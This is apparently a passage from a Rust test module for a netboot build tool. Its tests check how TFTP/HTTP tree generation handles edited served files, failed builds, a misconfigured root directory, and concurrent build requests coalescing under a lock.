    // Someone edits the served machines.json: the next one is not copied from it.
    let served = c.netboot().join("http/machines.json");
    std::fs::remove_file(&served).unwrap();
    std::fs::write(&served, "{}").unwrap();
    let third = netboot::build(&cfg).unwrap();
    assert_eq!((c.dump("tftp", &third), c.dump("http", &third)), want);
    let machines: Value = serde_json::from_slice(&std::fs::read(&served).unwrap()).unwrap();
    assert_eq!(machines["machines"].as_array().unwrap().len(), 3);
}

#[test]
fn failed_build_keeps_the_old_trees_and_leaves_nothing_behind() {
    let c = main_fixture();
    let cfg = c.config();
    let first = netboot::build(&cfg).unwrap();
    let before = (c.entries(&c.netboot()), c.dump("tftp", &first), c.dump("http", &first));
    let objects_before = (
        c.entries(&c.netboot().join("tftp.objects")),
        c.entries(&c.netboot().join("http.objects")),
    );

    // A new generation (its object gets rendered), then a failure while the new TFTP
    // tree is being written: an explicitly configured syslinux file is missing.
    let g = Gen::new("web-2-c", json!({"toplevel": "@"}));
    let mut b = Batch::new();
    add_generations(&mut b, &[&g]);
    let d = b.build()["dist-web-2-c"].clone();
    c.deploy("web-2", &[&d], T0 + 40 * DAY);
    let lib = c.path().join("usr-lib");
    let mut v = c.config_value();
    let mut files = serde_json::Map::new();
    for f in netboot::SYSLINUX_FILES {
        let dir = match f {
            "pxelinux.0" => "PXELINUX",
            "memdisk" => "syslinux",
            _ => "syslinux/modules/bios",
        };
        files.insert(f.to_string(), json!(lib.join(dir).join(f)));
    }
    files.insert("reboot.c32".into(), json!(lib.join("gone/reboot.c32")));
    v["syslinux"] = Value::Object(files);
    let err = netboot::build(&c.config_from(v)).unwrap_err().to_string();
    assert!(err.contains("gone/reboot.c32"), "{err}");

    assert_eq!((c.entries(&c.netboot()), c.dump("tftp", &first), c.dump("http", &first)), before);
    let objects_after = (
        c.entries(&c.netboot().join("tftp.objects")),
        c.entries(&c.netboot().join("http.objects")),
    );
    assert_eq!(objects_after, objects_before, "the new object is removed");

    // The next good build publishes the new generation.
    let ok = netboot::build(&cfg).unwrap();
    assert_eq!(ok.machines_rendered, 1);
    assert!(c.netboot().join("http/web-2/2/generation.json").exists());
}

#[test]
fn a_root_that_is_a_directory_is_refused() {
    let c = Carrier::new();
    std::fs::create_dir_all(c.netboot().join("http")).unwrap();
    std::fs::write(c.netboot().join("http/index.html"), "mine").unwrap();
    let err = netboot::build(&c.config()).unwrap_err().to_string();
    assert!(err.contains("is a directory, not a symlink"), "{err}");
    assert_eq!(c.entries(&c.netboot()), ["http", "http.objects", "tftp.objects"]);
    assert_eq!(std::fs::read_to_string(c.netboot().join("http/index.html")).unwrap(), "mine");
}

#[test]
fn concurrent_builds_coalesce() {
    let c = Arc::new(main_fixture());
    let cfg = Arc::new(c.config());
    // A build "running": hold the lock.
    std::fs::create_dir_all(cfg.lock_file.parent().unwrap()).unwrap();
    let holder = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(&cfg.lock_file)
        .unwrap();
    holder.lock().unwrap();
    let n = 4;
    let barrier = Arc::new(Barrier::new(n + 1));
    let threads: Vec<_> = (0..n)
        .map(|_| {
            let (cfg, barrier) = (cfg.clone(), barrier.clone());
            std::thread::spawn(move || {
                barrier.wait();
                netboot::request_build(&cfg, true).unwrap()
            })
        })
        .collect();
    barrier.wait();
    let mut pending = cfg.lock_file.as_os_str().to_owned();
    pending.push(".pending");
    while !Path::new(&pending).exists() {
        std::thread::yield_now();
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    // A caller that does not wait only queues.
    assert!(matches!(netboot::request_build(&cfg, false).unwrap(), RequestOutcome::Queued));
    drop(holder);
    let outcomes: Vec<RequestOutcome> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    let built: Vec<&netboot::BuildReport> = outcomes
        .iter()
        .filter_map(|o| if let RequestOutcome::Built(r) = o { Some(r) } else { None })
        .collect();
    let covered: Vec<&netboot::BuildReport> = outcomes
        .iter()
        .filter_map(|o| if let RequestOutcome::Covered(r) = o { Some(r) } else { None })
        .collect();
    assert_eq!(built.len(), 1, "{outcomes:?}");
    assert_eq!(
        built[0].builds, 1,
        "one build for every caller that arrived during the running one"
    );
    assert_eq!(covered.len(), n - 1);
    for r in covered {
        assert_eq!(r.tftp_dir, built[0].tftp_dir, "covered callers get the report of that build");
    }
    assert!(c.netboot().join("tftp/pxelinux.cfg/default").exists());
}
